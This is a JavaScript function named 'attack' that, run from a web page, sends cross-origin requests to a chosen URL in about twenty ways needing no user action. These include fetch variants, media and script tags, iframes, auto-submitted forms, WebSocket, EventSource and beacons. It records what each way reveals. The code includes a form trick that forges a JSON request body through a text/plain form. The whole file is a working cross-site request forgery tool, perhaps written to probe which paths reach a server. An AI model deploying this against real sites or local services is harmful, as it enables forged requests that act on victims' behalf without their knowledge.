// attack sends requests to a URL in every way that a page has without the user's help.
// It returns the ways, each with what the page learned of the answer: "" if that is
// nothing, and otherwise the status or the text.
//
// body is the body of the requests that have one. If mark is true, each request names
// its way in the query.
async function attack(url, body, mark) {
	const to = way => mark ? url + '?way=' + encodeURIComponent(way) : url
	const patience = 2000
	const bytes = new TextEncoder().encode(body)

	const send = options => async way => {
		const answer = await fetch(to(way), {...options, signal: AbortSignal.timeout(patience)})
		return answer.type === 'opaque' ? '' : answer.status + ' ' + await answer.text()
	}
	const post = (mode, type, content) => send({method: 'POST', mode, body: content, headers: type ? {'Content-Type': type} : {}})

	// once resolves to what the first of an element's events tells.
	const once = (element, events) => new Promise((resolve, reject) => {
		for (const [name, learned] of Object.entries(events)) element.addEventListener(name, () => resolve(learned(element)))
		setTimeout(() => reject(new Error('no event')), patience)
	})
	const embed = (tag, property) => async way => {
		const element = document.createElement(tag)
		const event = once(element, {load: () => 'loaded', loadedmetadata: () => 'loaded', error: () => ''})
		element[property] = to(way)
		if (tag === 'link') element.rel = 'stylesheet'
		document.documentElement.append(element)
		return event
	}
	// A frame always reports that it loaded; its text is what a page can learn.
	const frame = open => async way => {
		const element = document.createElement('iframe')
		element.name = 'frame of ' + way
		open(element, way) // an empty frame has already loaded after this
		return once(element, {load: () => element.contentDocument?.documentElement.innerText ?? ''})
	}
	const get = frame((element, way) => {
		element.src = to(way)
		document.documentElement.append(element)
	})
	const form = type => frame((element, way) => {
		document.documentElement.append(element)
		const form = document.createElement('form')
		Object.assign(form, {method: 'POST', action: to(way), enctype: type, target: element.name})
		const input = document.createElement('input')
		// As text/plain this is NAME=VALUE: the equals sign hides in a string of the JSON.
		Object.assign(input, {name: body.slice(0, -1) + ',"x":"', value: '"}'})
		form.append(input)
		document.documentElement.append(form)
		form.submit()
	})
	const socket = async way => {
		const connection = new WebSocket(to(way).replace(/^http/, 'ws'))
		return once(connection, {open: () => 'open', error: () => ''})
	}
	const stream = async way => {
		const events = new EventSource(to(way))
		return once(events, {open: () => 'open', error: () => ''}).finally(() => events.close())
	}
	const xhr = async way => {
		const request = new XMLHttpRequest()
		request.open('POST', to(way))
		request.timeout = patience
		const event = once(request, {load: () => request.status + ' ' + request.responseText, error: () => '', timeout: () => ''})
		request.send(body)
		return event
	}
	const beacon = async way => {
		navigator.sendBeacon(to(way), bytes)
		return ''
	}

	const ways = {
		'fetch': send({mode: 'cors'}),
		'fetch without CORS': send({mode: 'no-cors'}),
		'fetch HEAD': send({mode: 'no-cors', method: 'HEAD'}),
		'post text': post('no-cors', 'text/plain', body),
		'post form': post('no-cors', 'application/x-www-form-urlencoded', body),
		'post without a type': post('no-cors', '', bytes),
		'post without a type, CORS': post('cors', '', bytes),
		'post JSON': post('cors', 'application/json', body),
		'put': send({mode: 'cors', method: 'PUT', body}),
		'XMLHttpRequest': xhr,
		'beacon': beacon,
		'image': embed('img', 'src'),
		'script': embed('script', 'src'),
		'style sheet': embed('link', 'href'),
		'video': embed('video', 'src'),
		'frame': get,
		'form, urlencoded': form('application/x-www-form-urlencoded'),
		'form, text': form('text/plain'),
		'form, multipart': form('multipart/form-data'),
		'WebSocket': socket,
		'EventSource': stream,
	}
	return Promise.all(Object.entries(ways).map(async ([way, go]) => {
		try {
			return {url, way, learned: await go(way)}
		} catch {
			return {url, way, learned: ''}
		}
	}))
}
